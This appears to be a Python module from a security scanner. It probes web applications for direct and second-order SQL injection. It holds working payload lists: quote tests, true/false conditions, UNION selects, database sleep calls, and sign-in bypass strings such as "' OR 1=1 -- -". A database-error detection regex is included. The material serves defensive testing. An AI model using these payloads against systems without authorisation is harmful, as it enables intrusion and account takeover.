"""Injection into SQL: a value becomes a part of a statement, at once or once it is stored."""

from __future__ import annotations

import re
from functools import partial
from itertools import takewhile
from typing import TYPE_CHECKING

from SecurityLibrary.findings.finding import Severity
from SecurityLibrary.findings.owasp import INJECTION
from SecurityLibrary.injection import known_cookies, noted_headers
from SecurityLibrary.probes.base import InsertionPointProbe, Probe
from SecurityLibrary.proof import comparison, oracles
from SecurityLibrary.sending.answers import SERVER_ERROR
from theodore_qa.errors import NotEvaluatedError

if TYPE_CHECKING:
    from collections.abc import Iterator

    from SecurityLibrary.description.insertion_points import InsertionPoint
    from SecurityLibrary.description.operations import ScanOperation
    from SecurityLibrary.findings.finding import Finding
    from SecurityLibrary.scan import Scan
    from theodore_qa.systems.exchange import Exchange

DATABASE_ERRORS = re.compile(
    r"(?i)SQL syntax|sqlite3?\.(?:Operational|Programming|Database)Error|SQLITE_ERROR|near \".{1,80}\": syntax error|"
    r"unrecognized token: |unterminated quoted string at or near|syntax error at or near|psycopg2?\.|PG::|SQLSTATE\[|ORA-\d{5}|"
    r"quoted string not properly terminated|Unclosed quotation mark|Incorrect syntax near|System\.Data\.SqlClient|"
    r"You have an error in your SQL|MySQLSyntaxError|mysql_fetch|com\.mysql\.jdbc|org\.postgresql\.util\.PSQL|"
    r"SQLServerException|JdbcSQL|near '.{0,80}' at line \d"
)
COLUMNS = re.compile(
    r"(?i)sort|order|(?:^|[_.-])by$|column|field|direction|group|rank|criteri|(?:^|[_.-])(?:dir|key|attribute|property)$"
)


class SqlInjection(InsertionPointProbe):
    """A value becomes a part of an SQL statement."""

    id = "sql-injection"
    likely = re.compile(r"(?i)id$|sort|order|search|^q$|query|name|filter|category|status")
    title = "SQL injection"
    topic = "injection"
    severity = Severity.CRITICAL
    cwe = 89
    owasp = INJECTION
    sends = (
        "quotes, also in headers that browsers send; conditions that are true and false; a union with a computed text; a pause "
        "of 0, 2 and 4 seconds; quotes, conditions and unions in cookies that answers have set, too"
    )
    oracle = (
        "an error of the database, or a failure of the server, comes with one quote and not with two; or answers follow the "
        "condition in three rounds; or a "
        "text that the database put together comes back; or the answer waits as long as asked, twice"
    )
    bad = "query(f\"SELECT name FROM companies WHERE name LIKE '%{text}%'\")"
    good = 'query("SELECT name FROM companies WHERE name LIKE :text", text=f"%{text}%")'
    remediation = "Pass values as parameters of the statement, never as parts of its text."

    # Before and after a condition; OR could reach rows that were not meant, so it goes to operations that only read.
    AND = (
        ("' AND ", " -- -"),
        ("') AND ", " -- -"),
        ('" AND ', " -- -"),
        (" AND ", ""),
        (") AND ", " -- -"),
        ("%' AND ", " -- -"),
        ("' AND ", " AND '1'='1"),  # where something has to follow, such as LIMIT ?
        ("%' AND ", " AND '%'='"),
    )
    OR = (("' OR ", " -- -"), ("') OR ", " -- -"), ('" OR ', " -- -"), (" OR ", ""))
    # Where a column to sort by or a direction is named: by the order, or by an error of SQLite, PostgreSQL and its like, MySQL.
    SORT = (
        ("(CASE WHEN ", " THEN {v} END) DESC"),
        ("(CASE WHEN ", " THEN 1 ELSE json('qa') END), {v}"),  # after a key, SQLite leaves out what else to sort by
        ("{v}, (CASE WHEN ", " THEN 1 ELSE json('qa') END)"),
        ("{v}, (CASE WHEN ", " THEN 1 ELSE 1/0 END)"),
        ("{v}, (CASE WHEN ", " THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)"),
    )
    PAUSES = (
        "{v}' AND 1=(SELECT 1 FROM pg_sleep({d})) -- -",
        "{v}'; SELECT pg_sleep({d}) -- -",
        "{v} AND 1=(SELECT 1 FROM pg_sleep({d}))",
        "{v}' AND SLEEP({d}) -- -",
        "{v}'; WAITFOR DELAY '0:0:{d}' -- -",
        "'||(SELECT CAST(pg_sleep({d}) AS text))||'",
    )

    MOST_READ = 6  # operations

    # In place of a name at the sign-in: whoever comes first, or the identity itself, without a right password.
    SIGN_IN_NAMES = ("{v}' -- -", "{v}'--", "{v}'#", "' OR 1=1 -- -", "') OR 1=1 -- -", '" OR 1=1 -- -', "' OR '1'='1")

    def run(self, scan: Scan) -> Iterator[Finding]:
        """The sign-in first: it takes only a few tries before it is throttled."""
        yield from self._at_sign_in(scan)
        yield from super().run(scan)
        yield from self._in_headers(scan)
        yield from self._in_cookies(scan)

    def _in_cookies(self, scan: Scan) -> Iterator[Finding]:
        """Cookies that answers have set and that no description names, on pages that use them first."""
        for point in known_cookies.on_pages(scan):
            with scan.apart(self.id, point.location):
                found = self._by_error(scan, point) or self._by_condition(scan, point) or self._by_union(scan, point)
                scan.coverage.tried(self.id, point.location)
                if found:
                    yield found

    def _in_headers(self, scan: Scan) -> Iterator[Finding]:
        """Headers that each browser sends, and that systems note down: by errors alone."""
        for point in noted_headers.points(scan, self.id, self.MOST_READ):
            with scan.apart(self.id, point.location):
                found = self._by_error(scan, point)
                scan.coverage.tried(self.id, point.location)
                if found:
                    yield found

    def _at_sign_in(self, scan: Scan) -> Iterator[Finding]:
        authenticator = scan.authenticator
        identity = next(iter(scan.target.accounts), None)
        if not authenticator.operation or identity is None:
            return

        def enters(name: str, password: str = "") -> Exchange | None:
            answer = scan.sender.try_sign_in(name, password or f"Wrong-{scan.random.number()}")
            return answer if authenticator.token_in(answer) else None

        if enters(f"qa{scan.random.number()}") is not None:
            return  # any name signs in: that proves nothing about statements
        for form in self.SIGN_IN_NAMES:
            name = form.format(v=identity.username)
            first, second = enters(name), None
            if first is not None and enters(f"qa{scan.random.number()}") is None:
                second = enters(name)
            if first is not None and second is not None:
                observed = f"'{name}' signs in with any password, an unknown name does not"
                yield self.finding(authenticator.operation, observed, first, second)
                return
        condition = "' OR '1'='1"
        first, second = enters(identity.username, condition), enters(identity.username, condition)
        if first is not None and second is not None:
            yield self.finding(authenticator.operation, "a condition in place of the password signs in", first, second)

    def applies(self, point: InsertionPoint) -> bool:
        """Numbers too: they need no quotes."""
        return point.parameter.kind != "object"

    def look(self, scan: Scan, point: InsertionPoint) -> Finding | None:
        """Try errors, conditions, a union and pauses."""
        return (
            self._by_error(scan, point)
            or self._by_condition(scan, point)
            or self._by_union(scan, point)
            or self._by_pause(scan, point)
        )

    def _by_error(self, scan: Scan, point: InsertionPoint) -> Finding | None:
        for quote in ("'", '"'):
            answers = [scan.sender.put(point, f"{point.value}{quote * number}") for number in (1, 2)]
            if answers[0].status >= SERVER_ERROR > answers[1].status:
                answers += [scan.sender.put(point, f"{point.value}{quote * number}") for number in (3, 4)]
                if answers[2].status >= SERVER_ERROR > answers[3].status:
                    observed = "5xx for 1 and 3 quotes, not for 2 and 4"
                    return self.finding(point.location, observed, *answers[:2])
            unbalanced = scan.sender.put(point, f"{point.value}{quote}")
            match = DATABASE_ERRORS.search(unbalanced.text)
            if not match or DATABASE_ERRORS.search(point.controls[0].text):
                continue
            balanced = scan.sender.put(point, f"{point.value}{quote}{quote}")
            again = scan.sender.put(point, f"qa{scan.random.number()}{quote}")
            if not DATABASE_ERRORS.search(balanced.text) and DATABASE_ERRORS.search(again.text):
                return self.finding(
                    point.location, f"a database error ('{match[0]}') for one quote, none for two", unbalanced, balanced
                )
        return None

    def _by_condition(self, scan: Scan, point: InsertionPoint) -> Finding | None:
        reads = point.operation.safe or scan.authenticator.signs_in(point.operation)
        value = str(point.value)
        forms = [(f"{value}{before}", after) for before, after in (*self.AND, *(self.OR if reads else ()))]
        column = re.fullmatch(r"[-+]?([A-Za-z_][\w.]*)", value)
        if column and _may_sort(point, column[1]):
            forms += [(before.format(v=column[1]), after.format(v=column[1])) for before, after in self.SORT]
        for before, after in forms:

            def condition(*, holds: bool, before: str = before, after: str = after) -> str:
                number = scan.random.number()
                return f"{before}{number}={number if holds else number + 1}{after}"

            found = oracles.differential(scan, point, lambda: condition(holds=True), lambda: condition(holds=False))
            if found:
                differences, true, false = found
                where = comparison.listed(differences)
                observed = f"answers follow a condition in the value ({where} differ between N=N and N=M, in all rounds)"
                return self.finding(point.location, observed, true, false)
        return None

    def _by_union(self, scan: Scan, point: InsertionPoint) -> Finding | None:
        if not point.operation.safe:
            return None
        for quote in ("'", ""):
            for columns in range(1, 7):

                def union(first: int, second: int, quote: str = quote, columns: int = columns) -> tuple[str, str]:
                    text = ", ".join([f"'qa'||({first}*{second})"] * columns)  # no text that is cleaned holds the product
                    return f"qa0{quote} UNION SELECT {text} -- -", f"qa{first * second}"

                if found := oracles.computed(scan, point, union):
                    return self.finding(point.location, "a text concatenated by the database comes back", *found)
        return None

    def _by_pause(self, scan: Scan, point: InsertionPoint) -> Finding | None:
        for template in self.PAUSES:

            def payload(dose: float, template: str = template) -> str:
                return template.format(v=point.value, d=dose)

            if found := oracles.delayed(scan, point, payload):
                return self.finding(point.location, f"the answer waits as long as the value asks: {found[0]}", found[1])
        return None


def _may_sort(point: InsertionPoint, column: str) -> bool:
    """Whether a value may name a column: its parameter is called so, or the answers have a property of its name."""
    names = (
        {part for name in comparison.shape(point.controls[0]) for part in re.split(r"[/\[\]]+", name)}
        if point.controls
        else set()
    )
    return bool(COLUMNS.search(point.parameter.name)) or column.rpartition(".")[2] in names


class StoredSqlInjection(Probe):
    """A value that was stored becomes a part of an SQL statement later."""

    id = "stored-sql-injection"
    title = "Second-order SQL injection"
    topic = "injection"
    severity = Severity.CRITICAL
    cwe = 89
    owasp = INJECTION
    tier = 2
    changes = True
    sends = (
        "texts with a quote, and with conditions that are true and false, into what is stored; then what reads is read; the same "
        "with texts that look alike and are no conditions, and nothing for half a second"
    )
    oracle = (
        "a text with quotes is stored as any other, and what another operation reads follows the condition in all rounds, at "
        "places that neither change by themselves nor follow the texts that look alike; the items of a list are known by their "
        "identifiers, wherever they stand"
    )
    bad = "query(f\"SELECT * FROM people WHERE name = '{me.name}'\")  # it came from the database: it is safe, is it not?"
    good = 'query("SELECT * FROM people WHERE name = :name", name=me.name)'
    remediation = "Pass values as parameters of each statement, those that come from the database too."

    CONDITION = "qa' OR '{left}'='{right}"
    LOOKALIKE = "qa, OR ,{left},=,{right}"
    READERS, FEWER, ALONE = 8, 4, 0.5  # operations that read; of them where answers take long; seconds

    def run(self, scan: Scan) -> Iterator[Finding]:
        """Store in each insertion point and read, exclusively; what was stored last is the good value again."""
        readers = [operation for operation in scan.plan.working(self.id) if operation.method == "GET"]
        points = scan.plan.insertion_points(
            self.id,
            lambda point: point.textual and not point.operation.safe and not scan.authenticator.signs_in(point.operation),
        )
        yield from scan.side_by_side(
            self.id, points, lambda point: self._look(scan, point, readers), lambda point: point.location
        )

    def _look(self, scan: Scan, point: InsertionPoint, readers: list[ScanOperation]) -> Finding | None:
        with scan.sender.lock.exclusive():
            if not scan.sender.put(point, f"{point.value}'").ok:
                raise NotEvaluatedError("a text with a quote is not taken")
            scan.coverage.tried(self.id, point.location)
            try:
                most = self.READERS if scan.workers == scan.threads else self.FEWER
                return self._read(scan, point, _near(readers, point.operation)[:most])
            finally:
                scan.sender.put(point, point.value)

    def _read(self, scan: Scan, point: InsertionPoint, readers: list[ScanOperation]) -> Finding | None:
        sent: list[str] = []

        def stored(chosen: list[ScanOperation], *, holds: bool, form: str = self.CONDITION) -> list[Exchange]:
            number = scan.random.number()
            sent.append(form.format(left=number, right=number if holds else number + 1))
            scan.sender.put(point, sent[-1])
            return [scan.sender.send(reader, scan.plan.identity_for(reader)) for reader in chosen]

        first, second = stored(readers, holds=True), stored(readers, holds=False)
        for reader, true, false in zip(readers, first, second, strict=True):
            if not comparison.differ(comparison.of_items(true, *sent), comparison.of_items(false, *sent)):
                continue

            def ask(*, condition: bool, reader: ScanOperation = reader, form: str = self.CONDITION) -> Exchange:
                return stored([reader], holds=condition, form=form)[0]

            if found := oracles.in_rounds(scan, ask, sent, self._changing(scan, reader), comparison.of_items):
                differences, held, failed = found
                alike = oracles.in_rounds(scan, partial(ask, form=self.LOOKALIKE), sent, set(), comparison.of_items)
                if alike:  # it follows whether two texts are the same, and computes nothing
                    continue
                where = comparison.listed(differences)
                observed = f"what it reads follows a condition in the stored value ({where} differ, in all rounds)"
                return self.finding((str(reader), point.location), observed, held, failed)
        return None

    def _changing(self, scan: Scan, reader: ScanOperation) -> set[str]:
        """The places of an answer that change within half a second although nothing is stored."""
        answers = []
        for pause in (self.ALONE, 0.0):
            answers.append(comparison.of_items(scan.sender.send(reader, scan.plan.identity_for(reader))))
            scan.sender.pause(pause)
        return comparison.changing(answers)


def _near(readers: list[ScanOperation], operation: ScanOperation) -> list[ScanOperation]:
    """Operations, those first whose path has most in common with another's."""
    own = operation.path.split("/")

    def common(reader: ScanOperation) -> int:
        return sum(1 for _ in takewhile(lambda pair: pair[0] == pair[1], zip(own, reader.path.split("/"), strict=False)))

    return sorted(readers, key=common, reverse=True)
